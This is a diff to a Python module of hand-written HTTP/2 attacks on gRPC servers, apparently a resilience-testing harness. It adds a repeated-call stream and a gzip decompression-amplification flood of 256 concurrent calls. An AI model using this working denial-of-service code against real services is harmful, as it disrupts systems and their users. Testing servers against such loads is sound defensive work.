@@ -1,6 +1,7 @@
 """Attacks over gRPC. HTTP/2 is written here by hand, as no library leaves calls as incomplete as an attacker does."""
 
 import functools
+import gzip
 import random
 import struct
 
@@ -16,7 +17,7 @@ UNKNOWN = 77
 ACK, END_STREAM, END_HEADERS = 1, 1, 4
 INITIAL_WINDOW_SIZE = 4
 FRAME_BYTES, WINDOW_BYTES = 16_384, 65_535
-MESSAGE_BYTES = 4 << 20
+MESSAGE_BYTES, DECOMPRESSED_BYTES = 4 << 20, 32 << 10
 
 
 def frame(kind, flags, stream, data=b""):
@@ -146,6 +147,28 @@ class Shared(Streams):
         return b""
 
 
+class Repeated(Streams):
+    """Makes the same complete call on `depth` streams, and again when one has ended."""
+
+    def __init__(self, counts, block, message, depth):
+        super().__init__(counts, block, 0)
+        self.message, self.depth, self.number = message, depth, 1
+
+    def opening(self):
+        return PREFACE + frame(SETTINGS, 0, 0) + b"".join(self.call() for _ in range(self.depth))
+
+    def call(self):
+        number, self.number = self.number, self.number + 2
+        return frame(HEADERS, END_HEADERS, number, self.block) + frame(DATA, END_STREAM, number, self.message)
+
+    def handle(self, kind, flags, number, data):
+        if number and (kind == RST_STREAM or kind in (DATA, HEADERS) and flags & END_STREAM):
+            self.counts["ok" if kind == HEADERS else "rejected"] += 1
+            room = frame(WINDOW_UPDATE, 0, 0, len(data).to_bytes(4, "big")) if kind == DATA and data else b""
+            return room + self.call()
+        return super().handle(kind, flags, number, data)
+
+
 class Ignored(Behaviour):
     """Sends more frames of an unknown type than the server accepts. Their lengths keep reads from ending with a frame."""
 
@@ -209,3 +232,19 @@ class GRPCShared(Attack):
 
     def connections(self):
         return [Connection(self.grpc_endpoint, "127.66.0.1", functools.partial(Shared, self.counts, self.token))]
+
+
+class GRPCGzip(Attack):
+    """256 calls in flight, each with a message of 100 bytes that becomes one of 32 KiB."""
+
+    required = ("ok",)
+
+    def connections(self):
+        # A field that no message has, with a length in three bytes.
+        length = DECOMPRESSED_BYTES - 5
+        size = bytes(length >> 7 * index & 0x7F | (0x80 if index < 2 else 0) for index in range(3))
+        message = gzip.compress(b"\xfa\x7f" + size + bytes(length))
+        data = struct.pack(">BI", 1, len(message)) + message
+        block = headers(SERVICE + "GetItem", ("authorization", f"Bearer {self.token}"), ("grpc-encoding", "gzip"))
+        behaviour = functools.partial(Repeated, self.counts, block, data, 16)
+        return [Connection(self.grpc_endpoint, "127.66.0.1", behaviour) for _ in range(16)]
